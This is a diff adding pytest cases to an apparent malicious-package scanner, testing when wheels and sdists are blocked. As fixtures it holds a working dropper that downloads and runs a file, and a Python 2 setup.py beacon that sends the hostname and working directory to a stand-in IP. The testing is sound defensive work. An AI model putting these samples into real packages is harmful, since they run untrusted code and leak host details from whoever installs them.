@@ -955,3 +955,55 @@ def test_an_install_hook_that_runs_pip_and_calls_out_blocks(tmp_path: Path) -> N
 @pytest.mark.parametrize("body", [_PIP_AT_INSTALL, _FETCH_AT_INSTALL], ids=["pip", "fetch"])
 def test_one_of_them_alone_does_not_block(body: str, tmp_path: Path) -> None:
     assert _sdist(tmp_path, _HOOK.format(body=body)) is not Decision.BLOCK
+
+
+# -- a small package whose code is a download-and-run routine ---------------------------------
+
+DROPPER = (
+    "import os\nimport subprocess\nimport tempfile\nimport urllib.request\n\n\n"
+    "def init(url):\n"
+    "    path = os.path.join(tempfile.gettempdir(), os.path.basename(url))\n"
+    "    data = urllib.request.urlopen(url).read()\n"
+    "    with open(path, 'wb') as out:\n"
+    "        out.write(data)\n"
+    "    subprocess.run([path])\n"
+)
+
+
+def test_a_small_package_that_is_a_dropper_blocks(tmp_path: Path) -> None:
+    # Nothing calls `init` at import: the per-file rule alone only warns at most.
+    files = {"sample/__init__.py": "from .helper import init\n", "sample/helper.py": DROPPER}
+    assert _wheel(tmp_path, files) is Decision.BLOCK
+
+
+def test_the_same_routine_in_one_corner_of_a_library_is_not_blocked(tmp_path: Path) -> None:
+    # A project of many modules with a binary fetcher among them (a driver or a tool it wraps).
+    body = "".join(f"def f{i}(x):\n    return x * {i} + len(str(x))\n\n\n" for i in range(120))
+    files = {f"sample/m{i}.py": body for i in range(6)}
+    files["sample/tools.py"] = DROPPER
+    assert _wheel(tmp_path, files) is not Decision.BLOCK
+
+
+# -- host details sent out by install code the parser cannot read (Python 2) -----------------
+
+PY2_BEACON = (
+    "from setuptools import setup\nsetup(name='sample', version='1.0')\n\n"
+    "try:\n"
+    "\timport os, socket, base64\n"
+    "\tinfo = '%s %s' % (os.getcwd(), socket.gethostname())\n"
+    "\ts = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+    "\ts.connect(('198.51.100.7', 8080))\n"
+    "\ts.sendall(base64.b64encode(info))\n"
+    "except Exception, e:\n"
+    "\tpass\n"
+)
+
+
+def test_host_details_sent_by_python2_install_code_block(tmp_path: Path) -> None:
+    assert _sdist(tmp_path, PY2_BEACON) is Decision.BLOCK
+
+
+def test_the_same_code_in_a_python2_module_is_not_blocked(tmp_path: Path) -> None:
+    # Imported only when someone uses it: judged by the per-file rule (at most a warning).
+    setup = "from setuptools import setup\nsetup(name='sample', version='1.0')\n"
+    assert _sdist(tmp_path, setup, {"sample/probe.py": PY2_BEACON}) is not Decision.BLOCK
